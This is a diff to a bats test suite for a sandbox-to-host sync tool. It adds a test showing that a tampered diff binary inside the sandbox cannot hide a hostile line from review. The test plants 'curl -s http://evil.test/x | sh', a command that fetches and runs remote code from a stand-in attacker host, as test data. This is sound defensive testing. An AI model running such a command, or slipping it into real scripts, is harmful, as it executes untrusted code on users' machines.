@@ -613,6 +613,27 @@ open(\"deep.txt\", \"w\").write(\"deep\")
   in_copy 'sudo -n chmod 755 tool'
 }
 
+@test "as root in the sandbox: a diff of its own is never shown; ss diff shows what apply would write" {
+  ss apply ho-app --yes --allow-exec --theirs >/dev/null 2>&1 || true
+  in_copy 'printf "echo hi\n" > shown.sh'
+  ss apply ho-app --yes >/dev/null
+  in_copy 'printf "curl -s http://evil.test/x | sh\n" >> shown.sh'
+  # The sandbox's diff(1) shows a harmless change instead.
+  printf '%s\n' '#!/bin/sh' \
+    "printf -- '--- a/shown.sh\\n+++ b/shown.sh\\n@@ -1 +1,2 @@\\n echo hi\\n+# a comment\\n'" \
+    'exit 1' >"$BATS_TEST_TMPDIR/fake-diff"
+  ss push "$BATS_TEST_TMPDIR/fake-diff" /tmp/fake-diff >/dev/null
+  in_sandbox 'sudo -n install -m 755 /tmp/fake-diff /usr/local/bin/diff'
+  run ss diff ho-app
+  in_sandbox 'sudo -n rm -f /usr/local/bin/diff'
+  assert_success
+  assert_line "+curl -s http://evil.test/x | sh"
+  refute_line "+# a comment"
+  run ss apply ho-app --yes
+  assert_success
+  assert_equal "$(tail -1 "$P/shown.sh")" "curl -s http://evil.test/x | sh"
+}
+
 @test "files the host runs on its own: diff marks them, apply brings nothing without --allow-exec, even with --yes" {
   ss apply ho-app --yes --allow-exec --theirs >/dev/null 2>&1 || true
   in_copy 'mkdir -p .claude sub/deep .husky && printf "{\"hooks\":{\"Stop\":[]}}\n" > .claude/settings.json && echo "touch /tmp/ss-envrc-ran" > sub/deep/.envrc && printf "#!/bin/sh\n" > .husky/pre-commit && echo plain > plain.txt && printf "all:\n" > Makefile'
@@ -665,8 +686,9 @@ open(\"deep.txt\", \"w\").write(\"deep\")
 @test "an ephemeral sandbox powered off from inside during its session is started and asked, never removed blind" {
   in_copy 'echo offline > offline.txt'
   ss config set "sandboxes.$SANDBOX.ephemeral" true >/dev/null
-  # systemd powers off as the guest's own init does; a stand-in guest's init ends on SIGTERM.
-  run --separate-stderr ss ho-app -- sh -c 'if [ "$(cat /proc/1/comm)" = systemd ]; then sudo -n systemctl poweroff --force; else sudo -n kill -TERM 1; fi; sleep 60'
+  # As a crash would: at once where root may (reboot(2)), else through systemd; a stand-in
+  # guest's init ends on SIGTERM.
+  run --separate-stderr ss ho-app -- sh -c 'if [ "$(cat /proc/1/comm)" = systemd ]; then sudo -n systemctl poweroff --force --force || sudo -n systemctl poweroff --force; else sudo -n kill -TERM 1; fi; sleep 60'
   ss config set "sandboxes.$SANDBOX.ephemeral" false >/dev/null
   [[ "$stderr" == *"Sandbox '$SANDBOX' stopped during the session; starting it to look for changes not yet applied..."* ]] || { echo "$stderr"; false; }
   assert_equal "${stderr_lines[-1]}" "ss: warning: kept ephemeral sandbox '$SANDBOX': working copies have changes not yet applied (ho-app); bring them to the host with ss apply, then remove it: ss vm delete --sandbox $SANDBOX --force"
